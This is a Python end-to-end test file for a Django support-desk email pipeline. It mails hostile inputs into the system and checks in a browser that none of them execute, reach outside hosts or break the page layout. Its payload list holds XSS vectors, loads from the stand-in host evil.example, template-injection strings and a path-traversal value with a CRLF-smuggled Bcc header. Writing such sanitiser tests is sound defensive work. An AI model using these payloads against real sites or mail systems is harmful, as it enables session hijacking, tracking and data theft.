"""Strangers' worst, through the real pipeline onto the desk in a real browser: nothing of it runs, asks outside or
breaks the page.
"""

from __future__ import annotations

import json
from base64 import b64encode
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Page, expect

from channels_email.domain.process import process_all
from channels_email.domain.take_in import Origin, take_in
from channels_email.enums import Door, RawState
from channels_email.models import Mailbox, RawEmail
from interactions.models import Case, Message

pytestmark = [pytest.mark.journey, pytest.mark.django_db(transaction=True)]

CORPUS = Path(__file__).parents[3] / "shared/corpora/bad-input"
A_CASE = 40  # mails, as many as a page of a case's story shows
OURS = {"127.0.0.1", "localhost"}

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "<svg/onload=alert(3)>",
    '<a href="javascript:alert(4)">parcel</a>',
    '<iframe srcdoc="<script>alert(5)</script>"></iframe>',
    '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(6)></form>',
    '<style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/b.png) }</style>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/c.png);z-index:9999">over it all</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel=stylesheet href=/d.css>',
    '<img src="https://evil.example/e.png"><picture><source srcset="https://evil.example/f.png"></picture>',
    '<video poster="https://evil.example/g.png" src="https://evil.example/h.mp4" autoplay></video>',
    '<table width="9000"><tr><td nowrap>' + "wide " * 500 + "</td></tr></table>",
    "W" * 3000,
    "{{ 7*7 }}{% debug %}${7*7}<%= 7*7 %>",
    "\u202etxt.exe\u200b\u0000\ufeff\ud7ff" + "Z\u0351\u036b" * 60,
    "../../../../etc/passwd\r\nBcc: everybody@evil.example",
    "</textarea></title></style></iframe><script>alert(7)</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;">',
    '<div hx-get="/accounts/logout/" hx-trigger="load" data-hx-on:load="alert(9)" autofocus tabindex=1>logout</div>',
]


def third_partys() -> Iterator[str]:
    """The naughty strings and sanitiser cases of the corpus; a lone surrogate is no text that a mail could carry."""
    yield from (each.encode("utf-8", "replace").decode() for each in json.loads((CORPUS / "blns.json").read_text()))
    for line in (CORPUS / "bleach_tests.jsonl").read_text("utf-8").splitlines():
        yield json.loads(line)["payload"]
    yield (CORPUS / "msword.html").read_text("utf-8", "replace")


def word(text: str) -> str:
    """An encoded word (RFC 2047): whatever is in the text, line ends too, reaches the reader of the header."""
    return f"=?utf-8?b?{b64encode(text[:600].encode()).decode()}?="


def mail(payload: str, number: int, *, answers: int | None) -> bytes:
    """A mail with the payload in its sender's name, subject, a field, body and file name."""
    head = [
        f"From: {word(payload)} <mallory@evil.example>",
        "To: support@nordhem.example",
        f"Subject: {word(payload)}",
        f"Message-ID: <{number}@evil.example>",
        *([f"In-Reply-To: <{answers}@evil.example>"] if answers is not None else []),
        f"X-Mailer: {' '.join(payload.split())[:900]}",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="the-border"',
    ]
    body = f"text/{'plain' if number % 5 == 0 else 'html'}; charset=utf-8"
    parts = [
        f"--the-border\r\nContent-Type: {body}\r\nContent-Transfer-Encoding: base64\r\n",
        b64encode(f"<p>Hello</p>{payload}".encode()).decode(),
        "--the-border\r\nContent-Type: text/plain",
        f"Content-Disposition: attachment; filename*=utf-8''{quote(payload[:120])}\r\n\r\nfile",
        "--the-border--\r\n",
    ]
    return "\r\n".join([*head, "", *parts]).encode("utf-8", "surrogatepass")


@pytest.fixture
def arrived(orders, settings, tmp_path):
    """`arrived(payloads)`: each came as a mail of its own; the cases that they are in."""
    settings.MEDIA_ROOT = tmp_path
    Mailbox.objects.create(address="support@nordhem.example", queue=orders)

    def arrive(payloads: Sequence[str]) -> list[Case]:
        firsts = range(0, len(payloads), A_CASE)
        for batch in (firsts, [number for number in range(len(payloads)) if number not in firsts]):
            raws = []
            for number in batch:
                first = number - number % A_CASE
                content = mail(payloads[number], number, answers=None if number == first else first)
                raws.append(take_in(content, Origin(door=Door.SMTP), announce=False).pk)
            process_all(raws)
        assert RawEmail.objects.exclude(state=RawState.MESSAGE).count() == 0
        assert Message.objects.count() == len(payloads)
        return list(Case.objects.order_by("number"))

    return arrive


@pytest.fixture
def watched(open_page, house, ana):
    """A page of Ana's browser, and what it asked of other machines or opened as a dialog."""
    client = Client()
    client.force_login(ana, backend="django.contrib.auth.backends.ModelBackend")
    page = open_page()
    page.context.add_cookies(
        [{"name": name, "value": cookie.value, "url": house} for name, cookie in client.cookies.items()]
    )
    wrong: list[str] = []

    def asked(request) -> None:
        address = urlsplit(request.url)
        if address.scheme not in {"data", "blob", "about"} and address.hostname not in OURS:
            wrong.append(f"asked {request.url}")

    def spoke(dialog) -> None:
        wrong.append(f"said {dialog.message}")
        dialog.dismiss()

    page.context.on("request", asked)
    page.on("dialog", spoke)
    page.on("popup", lambda popup: wrong.append(f"opened {popup.url}"))
    return page, wrong


LOAD_ALL = """async () => {
  const loaded = (frame) =>
    frame.contentDocument?.readyState === 'complete' && frame.contentDocument.URL !== 'about:blank';
  for (const frame of document.querySelectorAll('iframe')) {
    frame.loading = 'eager';
    while (!loaded(frame)) await new Promise((done) => setTimeout(done, 20));
  }
}"""


def show_all(page: Page) -> None:
    """Every message's frame is loaded, not only those in sight."""
    page.evaluate(LOAD_ALL)


def stands_as_built(page: Page) -> None:
    assert page.evaluate("document.documentElement.scrollWidth - window.innerWidth") <= 0
    for region in (".rail", ".composer", ".case-head"):
        box = page.locator(region).first.bounding_box()
        assert box is not None, region
        assert (box["x"] >= 0, box["x"] + box["width"] <= 1440, box["y"] + box["height"] <= 900) == (True,) * 3, region
        at_its_middle = "([x, y, region]) => document.elementFromPoint(x, y)?.closest(region) !== null"
        middle = [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, region]
        assert page.evaluate(at_its_middle, middle), f"something lies over {region}"


def read_all(page: Page, house: str, cases: Sequence[Case]) -> None:
    page.goto(f"{house}{reverse('desktop:cases')}?box=queues")
    expect(page.get_by_role("heading", name="My queues")).to_be_visible()
    for case in cases:
        page.goto(house + reverse("desktop:case", args=[case.pk]))
        expect(page.locator(".composer-editor .ProseMirror")).to_be_visible()
        show_all(page)
        stands_as_built(page)
        assert urlsplit(page.url).path == reverse("desktop:case", args=[case.pk])


def test_mails_of_somebody_who_knows_all_the_tricks(arrived, watched, house):
    page, wrong = watched
    cases = arrived(PAYLOADS)
    assert len(cases) == 1

    read_all(page, house, cases)

    assert wrong == []
    assert page.locator("article.entry").count() == len(PAYLOADS)


@pytest.mark.skipif(not CORPUS.is_dir(), reason="the corpus ../shared/corpora/bad-input is not here")
def test_the_naughty_strings_of_third_parties(arrived, watched, house):
    page, wrong = watched
    payloads = list(third_partys())
    assert len(payloads) > 500

    read_all(page, house, arrived(payloads))

    assert wrong == []
